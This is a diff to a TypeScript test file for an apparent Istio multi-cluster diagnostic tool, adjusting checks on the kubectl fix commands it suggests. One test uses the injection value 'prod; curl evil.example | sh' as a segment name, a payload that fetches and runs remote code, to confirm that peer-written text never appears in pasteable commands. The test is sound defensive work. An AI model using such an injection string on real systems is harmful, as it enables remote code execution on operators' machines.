@@ -190,11 +190,12 @@ const cases: readonly Case[] = [
   },
   {
     reason: "reserved domain",
-    change: (mesh) => mesh.learn(facts("west", { segment: "prod", domain: "svc.cluster.local" })),
-    object: "Segment prod",
-    at: "west",
+    change: (mesh) => mesh.learn(facts("west", { segment: "prod", domain: "prod.example" })),
+    object: "Segment istio-system/prod",
+    at: "east",
     field: "spec.domain",
-    fix: /domain: <one that is in no cluster's own/,
+    fix: /kubectl --context west -n istio-system get segment prod -o yaml \| kubectl --context east apply -f -/,
+    message: /no Segment of that name has it here/,
   },
   {
     reason: "name taken",
@@ -245,7 +246,10 @@ test("a cluster behind a remote secret says what it lacks, too, and of one that 
   mesh.hear(federated("west"));
   const secret = about(explained(mesh.registry, HOST), "west", "secret")?.cause;
   assert.equal(secret?.reason, "shadowed");
-  assert.equal(secret?.fix, "kubectl --context east -n istio-system delete secret istio-remote-secret-west");
+  assert.match(
+    secret!.fix,
+    /^kubectl --context east -n istio-system delete secret istio-remote-secret-west, or whichever/,
+  );
 });
 
 test("a peer that reads us and that we do not read is no link, and the missing Gateway is the fix", () => {
@@ -351,7 +355,7 @@ test("a name that nobody knows is met with the one that was probably meant", () 
 test("nothing that a peer wrote stands in a command that somebody may paste", () => {
   const evil = "prod; curl evil.example | sh";
   const mesh = peered();
-  mesh.learn(facts("west", { segment: evil, domain: "prod.example" }));
+  mesh.learn(facts("west", { segment: evil }));
   mesh.hear(federated("west", { scope: "segment", segment: evil }));
   const segments = about(explained(mesh.registry, HOST), "west")?.cause;
   assert.equal(segments?.reason, "segment differs");
